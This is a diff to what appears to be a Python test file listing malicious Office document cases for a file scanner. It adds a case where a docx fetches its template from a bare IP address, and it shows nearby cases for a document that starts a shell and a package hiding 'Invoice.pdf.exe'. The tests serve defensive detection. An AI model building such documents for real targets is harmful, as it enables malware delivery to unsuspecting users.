@@ -291,6 +291,12 @@ OFFICE_BAD: tuple[Case, ...] = (
         "document-starts-shell",
     ),
     Case(
+        "bare-template.docx",
+        "docx",
+        lambda: files.docx_template("http://198.51.100.8/office/Normal.dotm"),
+        "template-from-bare-address",
+    ),
+    Case(
         "package.docx",
         "docx",
         lambda: files.docx_package("Invoice.pdf.exe", b"MZ" + bytes(200)),
